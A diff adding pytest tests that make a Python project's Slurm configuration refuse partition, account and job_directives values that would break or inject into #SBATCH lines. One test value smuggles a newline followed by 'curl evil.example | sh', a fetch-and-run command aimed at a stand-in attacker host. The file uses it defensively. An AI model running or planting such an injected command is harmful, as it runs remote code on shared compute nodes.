@@ -313,3 +313,49 @@ def test_certs_prints_a_command_whose_paths_survive_the_shell(tmp_path, capsys):
     for flag, name in [("--tls-ca-file", "ca.pem"), ("--tls-cert", "cert.pem")]:
         assert words[words.index(flag) + 1] == str(folder / name)
     assert words[words.index("--tls-key") + 1] == str(folder / "key.pem")
+
+
+# dask-jobqueue writes partition, account and job_directives bare into #SBATCH lines: a
+# line break ran the rest of the value as a command of every job script.
+_INJECTED = "gpu\ncurl evil.example | sh"
+
+
+@pytest.mark.parametrize("section", ["cluster.slurm", "cluster.slurm.rollout"])
+@pytest.mark.parametrize(
+    "field, value, message",
+    [
+        ("partition", _INJECTED, r"is not a name sbatch reads: give one word"),
+        ("account", "my account", r"is not a name sbatch reads"),
+        ("account", "x#y", r"no blank, quote, # or backslash"),
+        ("partition", '"gpu"', r"is not a name sbatch reads"),
+        ("job_directives", ["--qos=high", _INJECTED], r"\[1\] .* has a line break"),
+        ("job_directives", ["#SBATCH --qos=high"], r"\[0\] .* is no sbatch option: .*without"),
+        ("job_directives", ["constraint=a100"], r"is no sbatch option"),
+        ("job_directives", ['--comment="a b'], r"has an unmatched \""),
+        ("job_directives", ["--comment='its"], r"has an unmatched '"),
+    ],
+)
+def test_slurm_job_settings_an_sbatch_line_cannot_hold_are_refused(section, field, value, message):
+    with pytest.raises(ConfigError, match=rf"{section}\.{field}: .*{message}"):
+        with_overrides(RunConfig(), [f"{section}.{field}={json.dumps(value)}"])
+
+
+def test_slurm_job_settings_sbatch_reads_are_taken(tmp_path):
+    f = tmp_path / "slurm.yaml"
+    f.write_text(
+        "cluster:\n  slurm:\n    partition: ' cpu '\n    job_directives: ['--exclusive']\n"
+        "    rollout:\n      partition: gpu,gpu-long\n      account: proj_42.gpu\n"
+        '      job_directives: [\'--comment="a b"\', "--comment=it\\\\\'s", '
+        "'--qos=high  # the fast one']\n"
+    )
+    from laminar.config import load_config
+
+    s = load_config(f).cluster.slurm
+    assert (s.partition, s.account, s.job_directives) == ("cpu", None, ["--exclusive"])
+    assert (s.rollout.partition, s.rollout.account) == ("gpu,gpu-long", "proj_42.gpu")
+    assert s.rollout.job_directives == [
+        '--comment="a b"',
+        "--comment=it\\'s",
+        "--qos=high  # the fast one",
+    ]
+    assert (s.trainer.partition, s.trainer.account, s.trainer.job_directives) == (None, None, [])
